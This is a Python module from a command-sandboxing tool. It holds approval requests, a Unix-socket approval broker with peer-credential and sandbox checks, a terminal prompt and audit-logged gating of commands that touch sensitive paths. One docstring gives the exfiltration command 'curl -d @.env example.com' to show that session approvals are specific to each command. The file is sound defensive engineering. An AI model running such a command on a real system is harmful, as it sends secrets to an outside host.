"""Approval requests and decisions, the console broker, the terminal prompt, and `gate()`.

`gate()` is the one call a launcher makes before running a command: it runs the precheck and,
in `ask` mode, obtains a decision from (in order) the session's remembered approvals, an
in-process decider (the TUI's own run panel), a running console (the TUI's broker, over a Unix
socket), the terminal, or — with none of these — denies. Every request and decision is appended
to the audit log; if that fails, the command is denied (an approval must leave a trace).

The broker socket lives in the per-user runtime directory (`plan.runtime_dir()`:
`$XDG_RUNTIME_DIR/sandboxtui/`, else `/tmp/sandboxtui-UID`, never `$TMPDIR`), which every
sandbox gets hidden: directory 0700 and socket 0600, both must be owned by the current
user and not be symlinks, and each side checks the other's uid with `SO_PEERCRED`, and that the
other is no sandboxed command (one with a seccomp filter or no-new-privs, as every sandboxed
process has: the legacy pipeline cannot hide a runtime directory in a writable `/tmp`, where a
command could otherwise pose as the console and answer approvals itself). The protocol
is JSON lines: the client sends `{"type": "request", "request": {...}}` and gets back
`{"type": "decision", "decision": {...}}` or `{"type": "error", "error": "..."}`. A console that
closes the connection before deciding means deny.
"""

from __future__ import annotations

import contextlib
import errno
import json
import os
import queue
import select
import shlex
import socket
import stat
import struct
import threading
import time
import uuid
from collections.abc import Callable, Mapping, Sequence
from concurrent.futures import Future
from concurrent.futures import TimeoutError as FutureTimeout
from dataclasses import dataclass, field
from enum import StrEnum
from typing import Any, TextIO

from sandboxtui.core.audit import AuditError, AuditLog, default_audit_path
from sandboxtui.core.plan import MountPlan, runtime_dir
from sandboxtui.core.policy import PrecheckMode
from sandboxtui.core.precheck import PrecheckHit, PrecheckResult, precheck
from sandboxtui.core.terminal import inert

SOCKET_NAME = "console.sock"
MAX_LINE = 1 << 20  # a request or decision line longer than this is refused
DEFAULT_CONSOLE_TIMEOUT = 300.0
MAX_EDITS = 10  # edit -> precheck -> edit ... is bounded


class BrokerError(Exception):
    """The broker socket or its directory is unsafe or unusable: the message says why."""


class Choice(StrEnum):
    ONCE = "approve-once"
    SESSION = "approve-session"
    EDIT = "edit"
    DENY = "deny"


@dataclass(frozen=True)
class ApprovalRequest:
    """A command that mentions sensitive paths, waiting for a human's decision."""

    id: str
    argv: tuple[str, ...]
    cwd: str
    hits: tuple[PrecheckHit, ...]
    profile: str | None
    time: float
    pid: int  # the process that asks (a headless run, or the TUI itself)

    @property
    def matched(self) -> tuple[str, ...]:
        return tuple(dict.fromkeys(h.path for h in self.hits))

    @property
    def rules(self) -> tuple[str, ...]:
        return tuple(dict.fromkeys(f"{h.rule} [{h.provenance}]" for h in self.hits))

    def command(self) -> str:
        return shlex.join(self.argv)

    def to_json(self) -> dict[str, Any]:
        return {"id": self.id, "argv": list(self.argv), "cwd": self.cwd,
                "hits": [h.to_json() for h in self.hits], "matched": list(self.matched),
                "profile": self.profile, "time": self.time, "pid": self.pid}

    @classmethod
    def from_json(cls, data: Mapping[str, Any]) -> ApprovalRequest:
        argv = data["argv"]
        if not isinstance(argv, list) or not argv or not all(isinstance(a, str) for a in argv):
            raise ValueError("argv must be a non-empty list of strings")
        return cls(str(data["id"]), tuple(argv), str(data["cwd"]),
                   tuple(PrecheckHit.from_json(h) for h in data["hits"]),
                   None if data.get("profile") is None else str(data["profile"]),
                   float(data["time"]), int(data["pid"]))


def new_request(argv: Sequence[str], cwd: str, result: PrecheckResult,
                profile: str | None) -> ApprovalRequest:
    return ApprovalRequest(uuid.uuid4().hex[:12], tuple(argv), cwd, result.hits, profile,
                           time.time(), os.getpid())


@dataclass(frozen=True)
class Decision:
    """A human's (or a rule's) answer; `argv` is the edited command for `Choice.EDIT`."""

    choice: Choice
    who: str  # the console's name, "terminal", "session", "policy", "timeout", ...
    argv: tuple[str, ...] | None = None
    reason: str = ""
    time: float = field(default_factory=time.time)

    def __post_init__(self) -> None:
        if self.choice is Choice.EDIT and not self.argv:
            raise ValueError("an edit decision needs the edited command (a non-empty argv)")

    @property
    def approved(self) -> bool:
        return self.choice in (Choice.ONCE, Choice.SESSION)

    def to_json(self) -> dict[str, Any]:
        return {"choice": self.choice.value, "who": self.who,
                "argv": None if self.argv is None else list(self.argv),
                "reason": self.reason, "time": self.time}

    @classmethod
    def from_json(cls, data: Mapping[str, Any]) -> Decision:
        choice = Choice(data["choice"])
        argv = data.get("argv")
        if argv is not None and (not isinstance(argv, list)
                                 or not all(isinstance(a, str) for a in argv)):
            raise ValueError("argv must be a list of strings")
        return cls(choice, str(data["who"]), None if argv is None else tuple(argv),
                   str(data.get("reason", "")), float(data.get("time", time.time())))


def deny(who: str, reason: str) -> Decision:
    return Decision(Choice.DENY, who, reason=reason)


class ApprovalSession:
    """Commands approved "for the session" (one TUI run, or one broker).

    The key is the exact command and cwd: approving `cat .env` for the session does not approve
    `curl -d @.env example.com`. Thread-safe: the broker's connection threads consult it.
    """

    def __init__(self) -> None:
        self._lock = threading.Lock()
        self._approved: dict[tuple[tuple[str, ...], str], Decision] = {}

    def remember(self, request: ApprovalRequest, decision: Decision) -> None:
        with self._lock:
            self._approved[(request.argv, request.cwd)] = decision

    def lookup(self, request: ApprovalRequest) -> Decision | None:
        """A fresh `approve-session` decision when the command was approved before, else None."""
        with self._lock:
            earlier = self._approved.get((request.argv, request.cwd))
        if earlier is None:
            return None
        return Decision(Choice.SESSION, "session", reason=f"approved for the session by "
                        f"{earlier.who}")

    def approved(self) -> list[tuple[tuple[str, ...], str]]:
        with self._lock:
            return list(self._approved)


# --- the socket: location and safety checks -----------------------------------------------------


def default_socket_dir(env: Mapping[str, str] | None = None) -> str:
    """The per-user runtime directory, which every sandbox gets hidden: a sandboxed command can
    neither inject nor intercept approval requests there."""
    return runtime_dir(env)


def _check_private_dir(path: str) -> None:
    """The socket directory must be a real directory of ours that nobody else can enter."""
    try:
        st = os.lstat(path)
    except OSError as exc:
        raise BrokerError(f"socket directory {path}: {exc.strerror}") from exc
    if stat.S_ISLNK(st.st_mode):
        raise BrokerError(f"socket directory {path} is a symlink; refusing to use it "
                          "(remove it)")
    if not stat.S_ISDIR(st.st_mode):
        raise BrokerError(f"socket directory {path} is not a directory (remove it)")
    if st.st_uid != os.geteuid():
        raise BrokerError(f"socket directory {path} is owned by uid {st.st_uid}, not "
                          f"{os.geteuid()}; refusing to use it (remove it)")
    if st.st_mode & 0o077:
        raise BrokerError(f"socket directory {path} has mode {stat.S_IMODE(st.st_mode):03o}; "
                          "it must be 0700 (chmod 700 it)")


def _check_socket(path: str) -> bool:
    """True if a socket of ours exists at `path`, False if nothing; refuses anything else."""
    try:
        st = os.lstat(path)
    except FileNotFoundError:
        return False
    if stat.S_ISLNK(st.st_mode):
        raise BrokerError(f"socket path {path} is a symlink; refusing to use it (remove it)")
    if not stat.S_ISSOCK(st.st_mode):
        raise BrokerError(f"socket path {path} is not a socket; refusing to use it (remove it)")
    if st.st_uid != os.geteuid():
        raise BrokerError(f"socket {path} is owned by uid {st.st_uid}, not {os.geteuid()}; "
                          "refusing to use it (remove it)")
    return True


def peer_uid(sock: socket.socket) -> tuple[int, int]:
    """(pid, uid) of the process at the other end, from the kernel (SO_PEERCRED)."""
    creds = sock.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, struct.calcsize("3i"))
    pid, uid, _gid = struct.unpack("3i", creds)
    return pid, uid


def sandboxed_peer(pid: int) -> str | None:
    """Why the process `pid` (from SO_PEERCRED) may not take part in approvals, or None: a
    seccomp filter or no-new-privs marks a sandboxed command (every pipeline sets both), and a
    process this one cannot see (pid 0: another PID namespace) is not trusted either."""
    if pid <= 0:
        return "its process is in another PID namespace"
    try:
        with open(f"/proc/{pid}/status", encoding="utf-8") as fh:
            fields = dict(line.rstrip("\n").split(":\t", 1) for line in fh if ":\t" in line)
    except (OSError, ValueError):
        return f"its process ({pid}) cannot be inspected"
    if fields.get("Seccomp", "0").strip() != "0":
        return f"process {pid} runs under a seccomp filter (a sandboxed command)"
    if fields.get("NoNewPrivs", "0").strip() != "0":
        return f"process {pid} runs with no-new-privs (a sandboxed command)"
    return None


def _send(sock: socket.socket, message: Mapping[str, Any]) -> None:
    sock.sendall(json.dumps(message, separators=(",", ":")).encode() + b"\n")


def _recv_line(sock: socket.socket, deadline: float | None) -> bytes | None:
    """One line (without newline), or None on EOF; TimeoutError past the deadline."""
    buf = bytearray()
    while True:
        remaining = None if deadline is None else deadline - time.monotonic()
        if remaining is not None and remaining <= 0:
            raise TimeoutError
        sock.settimeout(remaining)
        try:
            chunk = sock.recv(65536)
        except TimeoutError:
            raise
        except OSError:
            return None  # reset by the peer: same as EOF
        if not chunk:
            return None
        buf += chunk
        if b"\n" in buf:
            return bytes(buf[:buf.index(b"\n")])
        if len(buf) > MAX_LINE:
            raise ValueError(f"line longer than {MAX_LINE} bytes")


# --- the broker (hosted by a console, e.g. the TUI) ---------------------------------------------


class PendingRequest:
    """A request a console must decide: call `decide()` once, from any thread."""

    def __init__(self, request: ApprovalRequest, peer_pid: int) -> None:
        self.request = request
        self.peer_pid = peer_pid
        self.future: Future[Decision] = Future()
        self.cancelled = threading.Event()  # the asking process went away

    def decide(self, decision: Decision) -> None:
        if not self.future.done():
            self.future.set_result(decision)


class Broker:
    """Serves approval requests on a Unix socket; a console takes them from `requests`.

    Use: `broker = Broker(); broker.start()`; then, from a worker thread, loop on
    `pending = broker.next_request(timeout)` and call `pending.decide(Decision(...))`; skip
    requests whose `pending.cancelled` is set. `on_request` (optional) is called from the
    connection thread for each new request (e.g. `app.call_from_thread` to wake a UI).
    Requests already approved for the session are answered without asking.
    """

    def __init__(self, socket_dir: str | None = None, *, session: ApprovalSession | None = None,
                 on_request: Callable[[PendingRequest], None] | None = None) -> None:
        self.socket_dir = default_socket_dir() if socket_dir is None else socket_dir
        self.path = os.path.join(self.socket_dir, SOCKET_NAME)
        self.session = ApprovalSession() if session is None else session
        self.on_request = on_request
        self.requests: queue.Queue[PendingRequest] = queue.Queue()
        self.refused: list[tuple[int, int]] = []  # (pid, uid) of peers refused by SO_PEERCRED
        self._listener: socket.socket | None = None
        self._ino: int | None = None
        self._stop = threading.Event()
        self._threads: list[threading.Thread] = []
        self._lock = threading.Lock()

    def start(self) -> None:
        """Create the directory and socket (cleaning a stale socket) and start serving."""
        try:
            os.mkdir(self.socket_dir, 0o700)
        except FileExistsError:
            pass
        except OSError as exc:
            raise BrokerError(f"cannot create socket directory {self.socket_dir}: "
                              f"{exc.strerror}") from exc
        _check_private_dir(self.socket_dir)
        if _check_socket(self.path):
            if _console_alive(self.path):
                raise BrokerError(f"another console is already serving approvals on "
                                  f"{self.path}")
            os.unlink(self.path)  # stale: its console died without cleaning up
        listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM | socket.SOCK_CLOEXEC)
        try:
            listener.bind(self.path)
            os.chmod(self.path, 0o600)
            listener.listen(16)
        except OSError as exc:
            listener.close()
            raise BrokerError(f"cannot listen on {self.path}: {exc.strerror}") from exc
        self._ino = os.lstat(self.path).st_ino
        listener.settimeout(0.2)
        self._listener = listener
        self._spawn(self._accept_loop)

    def next_request(self, timeout: float | None = None) -> PendingRequest | None:
        """The next request still waiting for a decision, or None after `timeout` seconds."""
        deadline = None if timeout is None else time.monotonic() + timeout
        while True:
            remaining = None if deadline is None else max(0.0, deadline - time.monotonic())
            try:
                pending = self.requests.get(timeout=remaining)
            except queue.Empty:
                return None
            if not pending.cancelled.is_set():
                return pending

    def close(self) -> None:
        """Stop serving; undecided requests see the connection close (their runs are denied)."""
        self._stop.set()
        if self._listener is not None:
            with contextlib.suppress(OSError):
                self._listener.shutdown(socket.SHUT_RDWR)  # wakes accept() at once
            self._listener.close()
            with contextlib.suppress(OSError):
                if os.lstat(self.path).st_ino == self._ino:
                    os.unlink(self.path)
        for t in list(self._threads):
            if t is not threading.current_thread():
                t.join(timeout=2.0)

    def __enter__(self) -> Broker:
        self.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.close()

    def _spawn(self, target: Callable[..., None], *args: Any) -> None:
        t = threading.Thread(target=target, args=args, daemon=True, name="sandboxtui-broker")
        with self._lock:
            self._threads = [x for x in self._threads if x.is_alive()] + [t]
        t.start()

    def _accept_loop(self) -> None:
        assert self._listener is not None
        while not self._stop.is_set():
            try:
                conn, _ = self._listener.accept()
            except TimeoutError:
                continue
            except OSError:
                return  # listener closed
            self._spawn(self._serve, conn)

    def _serve(self, conn: socket.socket) -> None:
        with conn:
            pid, uid = peer_uid(conn)
            why = (f"peer uid {uid} refused: this console only serves uid {os.geteuid()}"
                   if uid != os.geteuid() else None)
            if why is None and (confined := sandboxed_peer(pid)):
                why = f"refused: {confined}"
            if why is not None:
                self.refused.append((pid, uid))
                with contextlib.suppress(OSError):
                    _send(conn, {"type": "error", "error": why})
                return
            try:
                line = _recv_line(conn, time.monotonic() + 10.0)
                if line is None:
                    return
                message = json.loads(line)
                request = ApprovalRequest.from_json(message["request"])
            except (TimeoutError, ValueError, KeyError, TypeError, AttributeError) as exc:
                with contextlib.suppress(OSError):
                    _send(conn, {"type": "error", "error": f"bad request: {exc!r}"})
                return
            decision = self.session.lookup(request) or self._ask(conn, request, pid)
            if decision is None:
                return
            if decision.choice is Choice.SESSION:
                self.session.remember(request, decision)
            conn.settimeout(10.0)
            with contextlib.suppress(OSError):
                _send(conn, {"type": "decision", "decision": decision.to_json()})

    def _ask(self, conn: socket.socket, request: ApprovalRequest, pid: int) -> Decision | None:
        """Queue the request and wait for the console; None if the asker went away."""
        pending = PendingRequest(request, pid)
        self.requests.put(pending)
        if self.on_request is not None:
            self.on_request(pending)
        while True:
            with contextlib.suppress(FutureTimeout):
                return pending.future.result(timeout=0.1)
            if self._stop.is_set():
                return None
            if select.select([conn], [], [], 0)[0]:
                # EOF (the asker was killed or timed out) or a protocol violation
                pending.cancelled.set()
                return None


def _console_alive(path: str) -> bool:
    probe = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM | socket.SOCK_CLOEXEC)
    try:
        probe.connect(path)
    except OSError as exc:
        if exc.errno in (errno.ECONNREFUSED, errno.ENOENT):
            return False
        raise BrokerError(f"cannot probe {path}: {exc.strerror}") from exc
    finally:
        probe.close()
    return True


# --- asking (the headless side) -----------------------------------------------------------------


def ask_console(request: ApprovalRequest, socket_dir: str | None = None,
                timeout: float = DEFAULT_CONSOLE_TIMEOUT) -> Decision | None:
    """The decision of a running console, or None when no console is reachable.

    A console that does not answer within `timeout`, or closes the connection first, is a deny.
    An unsafe socket path raises BrokerError (a stranger's socket must not approve commands).
    """
    socket_dir = default_socket_dir() if socket_dir is None else socket_dir
    path = os.path.join(socket_dir, SOCKET_NAME)
    if not os.path.lexists(socket_dir):
        return None
    _check_private_dir(socket_dir)
    if not _check_socket(path):
        return None
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM | socket.SOCK_CLOEXEC)
    with sock:
        try:
            sock.connect(path)
        except OSError as exc:
            if exc.errno in (errno.ECONNREFUSED, errno.ENOENT):
                return None  # stale socket: the console is gone
            raise BrokerError(f"cannot connect to {path}: {exc.strerror}") from exc
        pid, uid = peer_uid(sock)
        if uid != os.geteuid():
            raise BrokerError(f"the console on {path} runs as uid {uid}, not {os.geteuid()}")
        if confined := sandboxed_peer(pid):
            raise BrokerError(f"the console on {path} is not sandboxtui's: {confined}; "
                              "refusing to ask it")
        try:
            _send(sock, {"type": "request", "request": request.to_json()})
            line = _recv_line(sock, time.monotonic() + timeout)
        except TimeoutError:
            return deny("timeout", f"the console did not decide within {timeout:g} s")
        except (OSError, ValueError) as exc:
            return deny("console-lost", f"the console connection failed: {exc}")
        if line is None:
            return deny("console-lost", "the console went away before deciding")
        try:
            message = json.loads(line)
            if message.get("type") == "error":
                return deny("console", f"the console refused: {message.get('error')}")
            return Decision.from_json(message["decision"])
        except (ValueError, KeyError, TypeError, AttributeError) as exc:
            return deny("console", f"unreadable answer from the console: {exc}")


PROMPT = "[o]nce / [s]ession / [e]dit / [d]eny? "


def ask_terminal(request: ApprovalRequest, tty: str = "/dev/tty") -> Decision | None:
    """Ask on the controlling terminal; None when there is no terminal to ask on."""
    try:
        fd = os.open(tty, os.O_RDWR | os.O_NOCTTY | os.O_CLOEXEC)
    except OSError:
        return None
    if not os.isatty(fd):
        os.close(fd)
        return None
    with open(fd, "w", encoding="utf-8", errors="replace") as out, \
            open(os.dup(fd), encoding="utf-8", errors="replace") as inp:
        return _prompt(request, inp, out)


def _prompt(request: ApprovalRequest, inp: TextIO, term: TextIO) -> Decision:
    term.write(f"\nsandboxtui: this command mentions sensitive paths:\n"
               f"  {inert(request.command())}\n  cwd: {inert(request.cwd)}\n")
    for path, rule in dict((h.path, f"{h.rule} [{h.provenance}]") for h in request.hits).items():
        term.write(f"  - {inert(path)}: {inert(rule)}\n")
    for _ in range(5):
        term.write(f"Run it? {PROMPT}")
        term.flush()
        answer = inp.readline()
        if not answer:
            return deny("terminal", "end of input on the terminal")
        key = answer.strip().lower()[:1]
        if key == "o":
            return Decision(Choice.ONCE, "terminal")
        if key == "s":
            return Decision(Choice.SESSION, "terminal")
        if key == "d":
            return deny("terminal", "denied on the terminal")
        if key == "e":
            term.write("new command: ")
            term.flush()
            try:
                argv = shlex.split(inp.readline())
            except ValueError as exc:
                term.write(f"cannot parse that command: {exc}\n")
                continue
            if argv:
                return Decision(Choice.EDIT, "terminal", tuple(argv))
            term.write("empty command\n")
    return deny("terminal", "no valid answer on the terminal")


# --- the gate -----------------------------------------------------------------------------------


@dataclass(frozen=True)
class GateResult:
    """What the launcher does: run `argv` if `allowed`, else print `message` and exit 3."""

    allowed: bool
    argv: tuple[str, ...]
    decision: Decision | None  # None: nothing matched, or the precheck is off
    message: str
    precheck: PrecheckResult


def gate(
    argv: Sequence[str],
    plan: MountPlan,
    *,
    cwd: str | None = None,
    session: ApprovalSession | None = None,
    decide: Callable[[ApprovalRequest], Decision] | None = None,
    socket_dir: str | None = None,
    tty: str | None = "/dev/tty",
    console_timeout: float = DEFAULT_CONSOLE_TIMEOUT,
    audit: AuditLog | None = None,
) -> GateResult:
    """Precheck `argv` and, in ask mode, get a decision; every request and decision is audited.

    `decide` is an in-process decider (the TUI run panel, called in a worker thread); without it
    a running console is asked over the socket, then the terminal `tty` (None: never ask), and
    with neither the command is denied.
    """
    cwd = plan.cwd if cwd is None else cwd
    audit = AuditLog(default_audit_path()) if audit is None else audit
    current = tuple(argv)
    decision: Decision | None = None
    for _ in range(MAX_EDITS + 1):
        result = precheck(current, plan, cwd)
        if not result.matched:
            note = "sensitive-path precheck is off" if result.skipped else "no sensitive paths"
            return GateResult(True, current, decision, note, result)
        request = new_request(current, cwd, result, plan.policy.profile)
        try:
            audit.append({"kind": "request", "time": request.time,
                          "request": request.to_json()})
            decision = _decide(request, result.mode, session, decide, socket_dir, tty,
                               console_timeout)
            audit.append({"kind": "decision", "time": decision.time, "id": request.id,
                          "decision": decision.to_json()})
        except AuditError as exc:
            if result.mode is PrecheckMode.BLOCK:  # denied either way: say why first
                blocked = _blocked()
                return GateResult(False, current, blocked, f"{_denial(result, blocked)}\n"
                                  f"(not recorded: {exc})", result)
            return GateResult(False, current, deny("error", str(exc)),
                              f"denied: the approval could not be audited: {exc}", result)
        if decision.choice is Choice.SESSION and session is not None:
            session.remember(request, decision)
        if decision.approved:
            return GateResult(True, current, decision,
                              f"approved ({decision.choice.value}) by {decision.who}", result)
        if decision.choice is Choice.DENY:
            return GateResult(False, current, decision, _denial(result, decision), result)
        current = decision.argv or ()  # edited (never empty): precheck the new command again
    return GateResult(False, current, decision,
                      f"denied: {MAX_EDITS} edits in a row still mention a sensitive path",
                      result)


def _decide(request: ApprovalRequest, mode: PrecheckMode, session: ApprovalSession | None,
            decide: Callable[[ApprovalRequest], Decision] | None, socket_dir: str | None,
            tty: str | None, console_timeout: float) -> Decision:
    if mode is PrecheckMode.BLOCK:
        return _blocked()
    earlier = session.lookup(request) if session is not None else None
    if earlier is not None:
        return earlier
    if decide is not None:
        return decide(request)
    try:
        decision = ask_console(request, socket_dir, console_timeout)
    except BrokerError as exc:
        return deny("error", f"approval console unusable: {exc}")
    if decision is None and tty is not None:
        decision = ask_terminal(request, tty)
    if decision is None:
        return deny("unattended", "approval needed, but no console is running and there is no "
                    "terminal to ask on")
    return decision


def _blocked() -> Decision:
    return deny("policy", "sensitive_path_precheck_mode = block")


def _denial(result: PrecheckResult, decision: Decision) -> str:
    head = ("blocked by sensitive_path_precheck_mode = block" if decision.who == "policy"
            else f"denied by {decision.who}: {decision.reason}")
    mentions = "".join(f"\n  {line}" for line in result.describe().splitlines())
    return f"{head}; the command mentions:{mentions}"
